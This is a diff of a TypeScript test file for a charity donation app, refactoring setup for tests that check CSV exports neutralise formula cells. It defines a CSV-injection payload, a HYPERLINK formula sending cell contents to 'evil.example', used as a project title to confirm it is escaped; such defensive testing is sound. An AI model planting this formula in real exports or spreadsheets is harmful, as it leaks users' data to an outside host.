@@ -1,23 +1,28 @@
 import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { businesses, users } from '../db/schema.js';
 import { isoDay } from '../lib/periods.js';
-import { fundOrganisation, makeCharityWithProject, makeDonor, platformAdmin } from '../testing/factories.js';
-import { createTestApp, type TestApp } from '../testing/helpers.js';
+import {
+  fundOrganisation,
+  makeCharityWithProject,
+  makeDonor,
+  platformAdmin,
+  type Person as User,
+} from '../testing/factories.js';
+import { useTestApp } from '../testing/helpers.js';
 import { addBusinessMember, createOrganisation } from '../testing/organisations.js';
 
 /**
  * Every CSV the app writes, with names and titles a spreadsheet would run as formulas: each such
  * cell must arrive as text (a single quote before it), the amounts as numbers (decision 035).
  */
-type User = Awaited<ReturnType<TestApp['createUser']>>;
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 const clock = new Date('2026-03-10T10:00:00Z');
 const day = (offset: number) => isoDay(new Date(clock.getTime() + offset * 86_400_000));
 
-let t: TestApp;
+const t = useTestApp({}, { now: () => clock });
 let platform: User;
 let charityAdmin: User;
 let charityId: number;
@@ -37,7 +42,6 @@ function expectNoFormula(rows: string[][]) {
 }
 
 beforeAll(async () => {
-  t = await createTestApp({}, { now: () => clock });
   platform = await platformAdmin(t);
   ({
     charityId,
@@ -49,7 +53,6 @@ beforeAll(async () => {
     { title: FORMULA, fields: { description: 'A project with a dangerous title.', end_date: day(30) } },
   ));
 });
-afterAll(async () => t.close());
 
 describe('CSV exports neutralise cells a spreadsheet would run', () => {
   it("the Gift Aid claim writes the donor's name as text and the amount as a number", async () => {
